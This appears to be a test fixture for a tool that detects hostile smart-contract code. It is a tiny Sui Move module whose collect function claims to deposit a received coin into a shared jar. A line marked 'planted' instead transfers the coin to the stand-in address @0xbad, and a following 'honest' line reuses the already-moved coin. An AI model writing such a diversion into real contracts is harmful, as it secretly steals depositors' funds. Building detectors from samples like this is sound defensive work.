module hostile::sends_on_received;

use sui::balance::{Self, Balance};
use sui::coin::Coin;
use sui::sui::SUI;
use sui::transfer::Receiving;

public struct Jar has key { id: UID, money: Balance<SUI> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
}

/// Puts in a coin that was sent to the jar.
public fun collect(jar: &mut Jar, sent: Receiving<Coin<SUI>>) {
    let coin = transfer::public_receive(&mut jar.id, sent);
    transfer::public_transfer(coin, @0xbad); //! planted
    jar.money.join(coin.into_balance()); //! honest
}
